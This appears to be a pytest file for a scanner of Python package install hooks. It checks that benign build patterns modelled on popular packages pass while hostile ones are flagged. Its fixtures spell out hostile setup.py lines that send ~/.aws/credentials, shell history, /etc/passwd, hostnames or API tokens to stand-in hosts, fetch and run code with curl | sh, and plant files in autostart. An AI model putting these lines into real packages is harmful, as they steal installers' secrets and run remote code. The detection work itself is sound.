"""Issue 14: what popular packages do at install is not blocked (minimal reconstructions)."""

from __future__ import annotations

from pathlib import Path

import pytest

from safepip.checks.install_hooks import scan_path
from safepip.findings import Finding, Severity
from tests.checks.hostile import make_sdist

TEMPLATE = '''
ISOLATE_SH = """
# keep npm's files inside the environment
_OLD_npm_config_userconfig="${npm_config_userconfig:-}"
npm_config_userconfig="$NODE_VIRTUAL_ENV/.npmrc"
export npm_config_userconfig
"""
version = "1.0"
'''


def _worst(findings: list[Finding], rule: str) -> Severity | None:
    return max((f.severity for f in findings if f.rule == rule), default=None)


def test_shell_template_naming_npmrc_warns_but_does_not_block(tmp_path: Path) -> None:
    """nodeenv: setup.py imports the module for its version; the module's activate-script
    templates name `.npmrc`. A text that mentions a location is not a path that is opened."""
    files = {"setup.py": "from setuptools import setup\nfrom tool import version\n"
                         "setup(name='tool', version=version)\n",
             "tool.py": TEMPLATE}
    findings = scan_path(make_sdist(tmp_path, "tool", "1.0", files))
    assert _worst(findings, "hook/sensitive-read") is Severity.MEDIUM


@pytest.mark.parametrize(
    "setup",
    [
        "data = open(os.path.expanduser('~/.npmrc')).read()\n",
        # one literal with escaped newlines is a command, not a block of text
        "os.system('curl -d \"x: \\n $(cat ~/.bash_history)\\n\" https://example.invalid')\n",
        # a block of text that downloads or pipes is a script, not a template
        "SCRIPT = TQ\ncat ~/.aws/credentials | curl -d @- https://example.invalid\nTQ\n",
    ],
    ids=["open", "escaped-newlines", "script-block"],
)
def test_a_secret_path_read_at_install_is_still_high(tmp_path: Path, setup: str) -> None:
    setup = setup.replace("TQ", '"' * 3)
    files = {"setup.py": "import os\nfrom setuptools import setup\n" + setup + "setup()\n"}
    findings = scan_path(make_sdist(tmp_path, "tool", "1.0", files))
    assert (_worst(findings, "hook/sensitive-read") or Severity.INFO) >= Severity.HIGH


ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 64


def test_binary_shipped_as_package_data_is_low(tmp_path: Path) -> None:
    """setuptools ships Windows launchers inside its package: what any wheel ships."""
    files = {"setup.py": "from setuptools import setup\nsetup()\n", "tool/__init__.py": "",
             "tool/launcher.exe": ELF}
    findings = scan_path(make_sdist(tmp_path, "tool", "1.0", files))
    assert _worst(findings, "hook/native-binary") is Severity.LOW


def test_binary_named_by_the_build_or_beside_it_stays_medium(tmp_path: Path) -> None:
    named = {"setup.py": "import subprocess\nfrom setuptools import setup\n"
                         "subprocess.call(['tool/helper.exe'])\nsetup()\n",
             "tool/__init__.py": "", "tool/helper.exe": ELF}
    findings = scan_path(make_sdist(tmp_path, "tool", "1.0", named))
    assert _worst(findings, "hook/native-binary") is Severity.MEDIUM
    (tmp_path / "b").mkdir()
    beside = {"setup.py": "from setuptools import setup\nsetup()\n", "bin/helper": ELF}
    findings = scan_path(make_sdist(tmp_path / "b", "tool", "1.0", beside))
    assert _worst(findings, "hook/native-binary") is Severity.MEDIUM


def test_files_under_test_folders_named_with_spaces_are_not_package_code(tmp_path: Path) -> None:
    """numpy's vendored meson has `manual tests/...` scripts that download and run things."""
    script = ("import urllib.request, subprocess\n"
              "def main():\n    data = urllib.request.urlopen('https://example.invalid/x').read()\n"
              "    open('x.exe', 'wb').write(data)\n    subprocess.call(['x.exe'])\n")
    files = {"setup.py": "from setuptools import setup\nsetup()\n",
             "vendored-meson/manual tests/4 binaries/build.py": script}
    findings = scan_path(make_sdist(tmp_path, "tool", "1.0", files))
    assert findings == []
    # A package folder whose name merely contains the word is code (import_module loads it).
    for folder in ("tool", "ttat-api-test", "my_tests_helper", "__init__py.py"):
        (tmp_path / folder).mkdir()
        package = {"setup.py": "from setuptools import setup\nsetup()\n",
                   f"{folder}/__init__.py": "", f"{folder}/build.py": script}
        assert scan_path(make_sdist(tmp_path / folder, "tool", "1.0", package)) != [], folder


def test_setup_py_linked_to_a_file_the_scan_would_skip_is_scanned(tmp_path: Path) -> None:
    """PEP 706 lets relative links inside the archive through (docutils, tenacity ship them);
    the build reads a linked setup.py through its link, so the scan reads the target."""
    import io
    import tarfile

    archive = tmp_path / "demo-1.0.tar.gz"
    payload = b"import os\nos.system('curl -s http://example.invalid/x | sh')\n"
    with tarfile.open(archive, "w:gz") as bundle:
        link = tarfile.TarInfo("demo-1.0/setup.py")
        link.type, link.linkname = tarfile.SYMTYPE, "build/notes.txt"
        bundle.addfile(link)
        info = tarfile.TarInfo("demo-1.0/build/notes.txt")
        info.size = len(payload)
        bundle.addfile(info, io.BytesIO(payload))
        readme = tarfile.TarInfo("demo-1.0/README.rst")
        readme.type, readme.linkname = tarfile.SYMTYPE, "docs/README.rst"
        bundle.addfile(readme)
    findings = scan_path(archive)
    assert [f.rule for f in findings if f.rule.startswith("archive/")] == []
    assert _worst(findings, "hook/download-exec") is Severity.CRITICAL


@pytest.mark.parametrize(
    "body,blocked",
    [
        # tensorboard: connect to this machine's own name to check its URL
        ("host = socket.getfqdn()\ntry:\n    socket.create_connection((host, 6006), timeout=1)\n"
         "except OSError:\n    host = 'localhost'\n", False),
        ("socket.gethostbyname(socket.gethostname())\n", False),
        # the machine's name inside a name under another domain is a DNS channel
        ("socket.create_connection((socket.gethostname() + '.example.invalid', 53))\n", True),
        ("name = f'{socket.getfqdn()}.example.invalid'\nsocket.create_connection((name, 53))\n",
         True),
        # and sending it is sending it
        ("import urllib.request\nurllib.request.urlopen('https://example.invalid/?h=' + "
         "socket.gethostname())\n", True),
    ],
    ids=["own-fqdn", "own-name-lookup", "dns-suffix", "fstring-name", "sent-in-url"],
)
def test_own_host_name_as_address_is_not_exfiltration(
    tmp_path: Path, body: str, blocked: bool
) -> None:
    files = {"setup.py": "import socket\nfrom setuptools import setup\n" + body + "setup()\n"}
    findings = scan_path(make_sdist(tmp_path, "tool", "1.0", files))
    worst = _worst(findings, "hook/env-exfiltration")
    assert (worst is not None and worst >= Severity.HIGH) is blocked


@pytest.mark.parametrize(
    ("fetch", "blocked"),
    [
        # ray's symmetric_run: the head's address, resolved, goes into `ray start`
        ("socket.getaddrinfo(host, 6379)[0][4][0]", False),
        ("socket.gethostbyname(host)", False),
        # content fetched over the network and run is still that
        ("urllib.request.urlopen('https://example.invalid/c').read().decode()", True),
    ],
    ids=["getaddrinfo", "gethostbyname", "urlopen"],
)
def test_an_address_from_the_resolver_is_not_a_fetched_command(
    tmp_path: Path, fetch: str, blocked: bool
) -> None:
    setup = ("import socket, subprocess, urllib.request\nfrom setuptools import setup\n"
             f"host = 'head.example.invalid'\nresolved = {fetch}\n"
             "subprocess.run(['echo', f'--node-ip-address={resolved}'])\nsetup()\n")
    findings = scan_path(make_sdist(tmp_path, "tool", "1.0", {"setup.py": setup}))
    worst = _worst(findings, "hook/download-exec")
    assert (worst is not None and worst >= Severity.HIGH) is blocked


_SCRATCH = (
    "import os, subprocess, sys, tempfile\nfrom setuptools import setup\n"
    "def compile_source(source):\n"
    "    fd, name = tempfile.mkstemp(suffix='.f')\n    os.close(fd)\n"
    "    with open(name, 'w') as f:\n        f.write({data})\n"
    "    subprocess.run([{program}, name])\n"
    "compile_source(sys.argv[-1])\nsetup()\n"
)


@pytest.mark.parametrize(
    ("data", "program", "blocked"),
    [
        # numpy.f2py / numpy.distutils: a scratch source from a parameter, then the tool on it
        ("source", "'gfortran'", False),
        # a payload the package carries, dropped into temp and started: a dropper
        ("'#!/bin/sh\\\\necho payload-stand-in > /dev/null; echo second-line > /dev/null\\\\n'",
         "'/bin/sh'", True),
    ],
    ids=["scratch-source", "carried-payload"],
)
def test_a_scratch_file_in_temp_is_not_a_dropped_payload(
    tmp_path: Path, data: str, program: str, blocked: bool
) -> None:
    setup = _SCRATCH.format(data=data, program=program)
    findings = scan_path(make_sdist(tmp_path, "tool", "1.0", {"setup.py": setup}))
    worst = _worst(findings, "hook/download-exec")
    assert (worst is not None and worst >= Severity.HIGH) is blocked


_FETCHER = (
    "import json, os\nfrom urllib.request import Request, urlopen, urlretrieve\n"
    "from setuptools import setup\n"
    "def read_url(url, token=None):\n"
    "    headers = {{'Authorization': 'Bearer ' + token}} if token else {{}}\n"
    "    with urlopen(Request(url, headers=headers)) as res:\n"
    "        return json.loads(res.read())\n"
    "releases = read_url('https://api.example.invalid/releases', "
    "token=os.environ.get('GITHUB_API_TOKEN'))\n"
    "urlretrieve({download}, 'libs.zip')\nsetup()\n"
)


@pytest.mark.parametrize(
    ("download", "blocked"),
    [
        # lxml 5.1's build: the API token goes into a request header; the answer names a file
        ("releases[0]['url']", False),
        # the secret itself in the address of a request is sent out
        ("'https://example.invalid/?k=' + os.environ['GITHUB_API_TOKEN']", True),
    ],
    ids=["response-of-a-fetcher", "secret-in-url"],
)
def test_a_fetchers_response_does_not_carry_what_went_into_its_request(
    tmp_path: Path, download: str, blocked: bool
) -> None:
    setup = _FETCHER.format(download=download)
    findings = scan_path(make_sdist(tmp_path, "tool", "1.0", {"setup.py": setup}))
    worst = _worst(findings, "hook/env-exfiltration")
    assert (worst is not None and worst >= Severity.HIGH) is blocked


@pytest.mark.parametrize(
    ("code", "blocked"),
    [
        # psutil 5.9 / six: exec_ of a py3-only definition, reached through __builtins__
        ('"def raise_from(value, from_value):\\n    raise value from from_value\\n"', False),
        # the same reach for code that does something is hiding it
        ('"import os\\nos.remove(\'/tmp/example-canary\')\\n"', True),
    ],
    ids=["inert-definition", "code-that-acts"],
)
def test_exec_reached_by_lookup_of_an_inert_literal_warns(
    tmp_path: Path, code: str, blocked: bool
) -> None:
    setup = ("import builtins\nfrom setuptools import setup\n"
             "exec_ = getattr(builtins, 'exec')\n"
             f"exec_({code})\nsetup()\n")
    findings = scan_path(make_sdist(tmp_path, "tool", "1.0", {"setup.py": setup}))
    assert any(f.severity >= Severity.HIGH for f in findings) is blocked


PREBUILT = """
import platform, sys, urllib.request
from setuptools import setup
from setuptools.command.bdist_wheel import bdist_wheel

def version():
    with open("pkg/__init__.py") as handle:
        return handle.read().split('"')[1]

def wheel_url():
    machine = platform.uname().machine
    name = f"pkg-{version()}-cp{sys.version_info.major}{sys.version_info.minor}-linux_{machine}.whl"
    return "https://github.com/example/pkg/releases/download/v1/" + name, name

class CachedWheels(bdist_wheel):
    def run(self):
        url, name = wheel_url()
        urllib.request.urlretrieve(url, name)

setup(cmdclass={"bdist_wheel": CachedWheels})
"""


def test_prebuilt_wheel_download_warns_but_is_not_exfiltration(tmp_path: Path) -> None:
    """flash-attn: bdist_wheel fetches a prebuilt wheel named after the platform and the
    version in the tree's own file. urlretrieve's second argument is where the download goes,
    not something sent, and uname's machine field is what pip's User-Agent tells every index."""
    files = {"setup.py": PREBUILT, "pkg/__init__.py": '__version__ = "1.0"\n'}
    findings = scan_path(make_sdist(tmp_path, "pkg", "1.0", files))
    assert _worst(findings, "hook/env-exfiltration") is None
    assert _worst(findings, "hook/network-fetch") is Severity.MEDIUM
    assert max(f.severity for f in findings) < Severity.HIGH


@pytest.mark.parametrize(
    "sent",
    [
        "urllib.request.urlretrieve('https://example.invalid/?h=' + platform.uname().node, 'x')",
        "urllib.request.urlretrieve('https://example.invalid/?h=' + str(platform.uname()), 'x')",
        "u = platform.uname()\nurllib.request.urlretrieve('https://example.invalid/' + u[1], 'x')",
        "urllib.request.urlretrieve('https://example.invalid/', 'x', None, "
        "open('/etc/passwd', 'rb').read())",
        "urllib.request.urlretrieve(*['https://example.invalid/?u=' + getpass.getuser(), 'x'])",
    ],
    ids=["node", "whole-uname", "uname-index", "posted-data", "starred"],
)
def test_host_identity_sent_by_urlretrieve_still_blocks(tmp_path: Path, sent: str) -> None:
    setup = "import getpass, platform, urllib.request\nfrom setuptools import setup\n"
    files = {"setup.py": setup + sent + "\nsetup()\n"}
    findings = scan_path(make_sdist(tmp_path, "pkg", "1.0", files))
    assert max(f.severity for f in findings) >= Severity.HIGH


@pytest.mark.parametrize(
    ("command", "blocks"),
    [
        ("['cp', \"//'%s'\" % dataset, 'sdsnc.h']", False),  # ibm_db: a data set copied in
        ("['ln', '-s', '/opt/lib/libx.so', 'build/libx.so']", False),
        ("['cp', 'build/tool', os.path.expanduser('~/.local/bin/tool')]", True),
        ("['cp', '-t', os.path.expanduser('~/.config/autostart'), 'x.desktop']", True),
    ],
    ids=["copy-in", "link-in", "copy-out", "copy-out-t"],
)
def test_a_copy_program_is_judged_by_its_destination(
    tmp_path: Path, command: str, blocks: bool
) -> None:
    setup = ("import os, subprocess\nfrom setuptools import setup\ndataset = 'DSN.H'\n"
             f"subprocess.run({command})\nsetup()\n")
    findings = scan_path(make_sdist(tmp_path, "pkg", "1.0", {"setup.py": setup}))
    assert ((_worst(findings, "hook/outside-write") or Severity.INFO) >= Severity.HIGH) is blocks


@pytest.mark.parametrize(
    ("opened", "worst"),
    [
        ('(ROOT / "pkg" / "about.py")', Severity.INFO),  # spacy, srsly: their about.py
        ('Path(__file__).parent.joinpath("pkg", "about.py")', Severity.INFO),
        ('(ROOT / "pkg" / "blob.dat")', Severity.HIGH),  # a data file run as code
    ],
    ids=["about", "joinpath", "data-file"],
)
def test_exec_of_a_file_opened_through_pathlib(
    tmp_path: Path, opened: str, worst: Severity
) -> None:
    setup = ("from pathlib import Path\nfrom setuptools import setup\n"
             "ROOT = Path(__file__).parent\nabout = {}\n"
             f"with {opened}.open('r') as f:\n    exec(f.read(), about)\n"
             "setup(version=about['__version__'])\n")
    files = {"setup.py": setup, "pkg/about.py": "__version__ = '1.0'\n",
             "pkg/blob.dat": "__version__ = '1.0'\n"}
    findings = scan_path(make_sdist(tmp_path, "pkg", "1.0", files))
    assert _worst(findings, "hook/dynamic-exec") is worst


FONTS = """
import io, subprocess, sys, urllib.request, zipfile
from setuptools import setup

def run(cmd):
    return subprocess.call(cmd)

def fonts():
    data = urllib.request.urlopen("https://example.invalid/fonts.zip").read()
    archive = zipfile.ZipFile(io.BytesIO(data))
    for name in archive.namelist():
        with open("src/pkg/fonts/" + name, "wb") as out:
            out.write(archive.read(name))

if "test" in sys.argv:
    sys.exit(run(CALL))
fonts()
setup()
"""


@pytest.mark.parametrize(
    ("call", "blocks"),
    [
        ("[sys.executable, 'runAll.py'] + sys.argv[2:]", False),  # reportlab's test runner
        ("sys.argv[2:]", True),  # what it starts is computed: it may be the download
        ("[sys.executable, sys.argv[2]]", True),
        ("['src/pkg/fonts/' + sys.argv[2]]", True),
    ],
    ids=["spelled-script", "computed", "computed-script", "runs-the-download"],
)
def test_download_and_a_helper_start_block_unless_the_start_is_spelled(
    tmp_path: Path, call: str, blocks: bool
) -> None:
    """reportlab downloads font files into its tree and has a helper that runs its test
    suite: the dropper rule (data written, a program started, steps in helpers) needs a start
    that could run what was written."""
    files = {"setup.py": FONTS.replace("CALL", call)}
    findings = scan_path(make_sdist(tmp_path, "pkg", "1.0", files))
    assert (max(f.severity for f in findings) >= Severity.HIGH) is blocks


def test_a_helper_passed_around_still_counts_as_a_start(tmp_path: Path) -> None:
    setup = FONTS.replace("CALL", "[sys.executable, 'runAll.py']").replace(
        "fonts()\n", "fonts()\nlist(map(run, [sys.argv[2:]]))\n")
    findings = scan_path(make_sdist(tmp_path, "pkg", "1.0", {"setup.py": setup}))
    assert max(f.severity for f in findings) >= Severity.HIGH


WRAPT = """
import builtins, inspect
exec_ = getattr(builtins, "exec")

def adapter_factory(wrapped):
    signature = str(inspect.signature(wrapped))
    ns = {}
    exec_(CODE, ns, ns)
    return ns["adapter"]

adapter = adapter_factory(print)
"""


@pytest.mark.parametrize(
    ("code", "blocks"),
    [
        ("'def adapter{}: pass'.format(signature)", False),  # wrapt's py2/3 exec_
        ("'def adapter{}: pass'.format('(): pass\\\\nimport os')", True),  # a literal spliced in
        ("'import os; os.system({})'.format(signature)", True),  # the template itself acts
        ("'def adapter{}: pass'.format(*[signature])", True),
    ],
    ids=["signature", "literal-spliced", "acting-template", "starred"],
)
def test_exec_reached_by_lookup_of_a_filled_inert_template(
    tmp_path: Path, code: str, blocks: bool
) -> None:
    """wrapt reaches exec by getattr (a py2/3 idiom) to define an adapter with a signature
    taken from the wrapped function: the call is hidden, the code is not (a warning)."""
    files = {"setup.py": "from setuptools import setup\nimport pkg\nsetup()\n",
             "pkg/__init__.py": WRAPT.replace("CODE", code)}
    findings = scan_path(make_sdist(tmp_path, "pkg", "1.0", files))
    assert (max((f.severity for f in findings), default=Severity.INFO) >= Severity.HIGH) is blocks
